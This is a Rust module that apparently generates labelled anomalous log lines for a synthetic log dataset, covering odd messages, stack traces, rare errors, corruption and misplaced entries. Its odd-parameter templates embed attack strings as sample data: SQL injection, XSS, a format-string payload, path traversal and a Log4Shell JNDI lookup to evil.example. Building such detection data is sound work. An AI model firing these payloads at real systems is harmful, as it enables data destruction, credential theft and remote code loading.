//! What does not belong: each kind of anomaly makes one line and gives it its label. Ordinary errors are not here.

use engine::event::Level;
use rand::Rng;

use crate::access;
use crate::catalog::{FLOWS, SERVICES};
use crate::values::{Context, expand, hex, pick};

/// A line that does not belong, not yet placed in time.
#[derive(Debug)]
pub(crate) struct Odd {
    pub label: &'static str,
    pub service: &'static str,
    pub level: Level,
    pub message: String,
    /// The access event behind the line, for suspicious requests.
    pub access: Option<access::Access>,
}

impl Odd {
    fn new(label: &'static str, service: &'static str, level: Level, message: String) -> Self {
        Self { label, service, level, message, access: None }
    }
}

/// Labels of all kinds, in the order in which they are drawn.
pub const KINDS: [&str; 7] = [
    "new_message",
    "stack_trace",
    "rare_error",
    "odd_parameter",
    "suspicious_access",
    "data_corruption",
    "misplaced_message",
];

/// Draws one anomaly of any kind.
pub(crate) fn draw(context: &Context, rng: &mut impl Rng) -> Odd {
    match rng.gen_range(0..KINDS.len()) {
        0 => new_message(context, rng),
        1 => stack_trace(rng),
        2 => rare_error(context, rng),
        3 => odd_parameter(context, rng),
        4 => suspicious_access(rng),
        5 => data_corruption(context, rng),
        _ => misplaced(context, rng),
    }
}

const NEW_MESSAGES: &[(&str, Level, &str)] = &[
    ("auth", Level::Warn, "Privilege escalation: user {user} granted role superadmin by itself"),
    ("auth", Level::Info, "Bulk export of credentials requested by user {user}, {count} rows"),
    (
        "payments",
        Level::Warn,
        "Clock skew of {count} s against provider {provider}, signatures may be refused",
    ),
    ("billing_api", Level::Warn, "Negative balance carried forward for tenant {user}"),
    ("orders", Level::Warn, "State machine of {order} jumped from CREATED to ARCHIVED"),
    ("inventory", Level::Warn, "Checksum of warehouse snapshot {session} differs from manifest"),
    ("catalog", Level::Info, "Debug endpoint /internal/heapdump enabled at runtime"),
    ("search", Level::Warn, "Split brain suspected: two coordinators claim epoch {offset}"),
    ("shipping", Level::Info, "Destination rewritten to sanctioned region for {order}"),
    ("notifications", Level::Warn, "Outbound mail to {count} unknown domains within one minute"),
    ("users", Level::Info, "Mass deletion approved: {count} profiles scheduled for purge"),
    ("cart", Level::Warn, "Coupon STAFF100 redeemed {count} times by anonymous visitor"),
    ("recommendations", Level::Warn, "Weights contain NaN after hot swap to canary model"),
    ("api-gateway", Level::Warn, "Certificate fingerprint changed unexpectedly for upstream {host}"),
];

fn new_message(context: &Context, rng: &mut impl Rng) -> Odd {
    let (service, level, template) = NEW_MESSAGES[rng.gen_range(0..NEW_MESSAGES.len())];
    Odd::new("new_message", service, level, expand(template, context, 1, rng))
}

const EXCEPTIONS: &[(&str, &str)] = &[
    ("java.lang.NullPointerException", "Cannot invoke \"Basket.lines()\" because \"basket\" is null"),
    ("java.lang.OutOfMemoryError", "Java heap space"),
    ("java.lang.ArrayIndexOutOfBoundsException", "Index 7 out of bounds for length 7"),
    ("java.util.ConcurrentModificationException", "collection changed during iteration"),
    ("java.lang.StackOverflowError", "recursion in discount resolution"),
    ("javax.net.ssl.SSLHandshakeException", "PKIX path building failed"),
    ("com.fasterxml.jackson.core.JsonParseException", "Unexpected end-of-input within object entry"),
];
const FRAMES: &[&str] = &[
    "com.shop.core.BasketService.merge(BasketService.java:88)",
    "com.shop.core.DiscountResolver.resolve(DiscountResolver.java:141)",
    "com.shop.http.Dispatcher.invoke(Dispatcher.java:57)",
    "com.shop.events.Publisher.flush(Publisher.java:203)",
    "java.base/java.util.concurrent.ThreadPoolExecutor.runWorker(ThreadPoolExecutor.java:1144)",
    "java.base/java.lang.Thread.run(Thread.java:1583)",
];

fn stack_trace(rng: &mut impl Rng) -> Odd {
    let (class, text) = EXCEPTIONS[rng.gen_range(0..EXCEPTIONS.len())];
    let mut message = format!("Unhandled {class}: {text}");
    let skip = rng.gen_range(0..3);
    for frame in FRAMES.iter().skip(skip) {
        message.push_str("\n\tat ");
        message.push_str(frame);
    }
    Odd::new("stack_trace", any_service(rng), Level::Error, message)
}

const RARE_ERRORS: &[(&str, &str)] = &[
    ("orders", "Deadlock detected on {db}: transaction {offset} rolled back as victim"),
    ("billing_api", "No space left on device while appending journal segment {session}"),
    ("payments", "HSM refused to sign: tamper flag raised on slot {partition}"),
    ("auth", "Key rotation aborted: primary and standby disagree on generation {count}"),
    ("inventory", "Corrupt page {offset} in stock index, rebuilding from archive"),
    ("search", "Kernel killed indexer on {host}: cgroup memory exhausted"),
    ("shipping", "Carrier contract {session} revoked, all {carrier} bookings void"),
    ("notifications", "Poison record at {topic}-{partition} offset {offset}, consumer wedged"),
    ("catalog", "Schema migration 0042 half applied on {db}, manual repair needed"),
    ("users", "Replica on {host} diverged from primary at log position {offset}"),
];

fn rare_error(context: &Context, rng: &mut impl Rng) -> Odd {
    let (service, template) = RARE_ERRORS[rng.gen_range(0..RARE_ERRORS.len())];
    let level = if rng.gen_bool(0.5) { Level::Fatal } else { Level::Error };
    Odd::new("rare_error", service, level, expand(template, context, 1, rng))
}

const ODD_PARAMETERS: &[(&str, &str)] = &[
    (
        "payments",
        "Charged -{offset}00.00 XXX to card ending null for order {order} via {provider} in {ms} ms",
    ),
    ("orders", "Order ORD-undefined created for user null, -1 items, total NaN {currency}"),
    ("cart", "Added 2147483647 x {sku} to cart of user {user}"),
    ("search", "Query '' OR 1=1; DROP TABLE products; --' returned {count} hits in {ms} ms"),
    ("search", "Query '<script>document.location=0x41414141</script>' returned 0 hits in {ms} ms"),
    ("billing_api", "Invoice INV-0000-00000000 issued for order ORD-undefined, amount 1e308 {currency}"),
    ("auth", "User root' UNION SELECT password FROM accounts logged in from 0.0.0.0"),
    ("shipping", "Shipment of order {order} booked with test_carrier_do_not_use, tracking TRKxxxxxxxxxx"),
    ("inventory", "Reserved -{count} units of SKU-\u{fffd}\u{fffd} for order {order} in warehouse ../../etc"),
    ("catalog", "Product %s%s%n%x loaded in -{ms} ms"),
    ("users", "Profile of user 18446744073709551615 loaded in 86400000 ms"),
    ("notifications", "Sent {{7*7}} by telegraph to user ${jndi:ldap://evil.example/a}"),
];

fn odd_parameter(context: &Context, rng: &mut impl Rng) -> Odd {
    let (service, template) = ODD_PARAMETERS[rng.gen_range(0..ODD_PARAMETERS.len())];
    Odd::new("odd_parameter", service, Level::Info, expand(template, context, 3, rng))
}

fn suspicious_access(rng: &mut impl Rng) -> Odd {
    let access = access::suspicious(rng);
    let mut odd = Odd::new("suspicious_access", access::SERVICE, access.level(), access.message());
    odd.access = Some(access);
    odd
}

fn data_corruption(context: &Context, rng: &mut impl Rng) -> Odd {
    let (service, clean) = ordinary(context, rng);
    let message = match rng.gen_range(0..4) {
        0 => clean
            .chars()
            .map(|letter| if rng.gen_bool(0.35) { char::from(rng.gen_range(b'!'..b'~')) } else { letter })
            .collect(),
        1 => clean.replace(['a', 'e'], "\u{fffd}").replace('o', "Ã¶"),
        2 => format!("{{\"event\":\"{}\",\"payload\":{{\"blob\":\"{}", service, hex(rng, 48)),
        _ => clean
            .split_whitespace()
            .rev()
            .map(|word| word.chars().rev().collect::<String>())
            .collect::<Vec<_>>()
            .join(" "),
    };
    Odd::new("data_corruption", service, Level::Info, message)
}

fn misplaced(context: &Context, rng: &mut impl Rng) -> Odd {
    let (owner, message) = ordinary(context, rng);
    let service = loop {
        let other = any_service(rng);
        if other != owner {
            break other;
        }
    };
    Odd::new("misplaced_message", service, Level::Fatal, message)
}

fn any_service(rng: &mut impl Rng) -> &'static str {
    SERVICES[rng.gen_range(0..SERVICES.len())].name
}

fn ordinary(context: &Context, rng: &mut impl Rng) -> (&'static str, String) {
    let flow = &FLOWS[rng.gen_range(0..FLOWS.len())];
    let step = &flow.steps[rng.gen_range(0..flow.steps.len())];
    let template = pick(rng, step.says);
    (step.service, expand(template, context, step.typical_ms, rng))
}
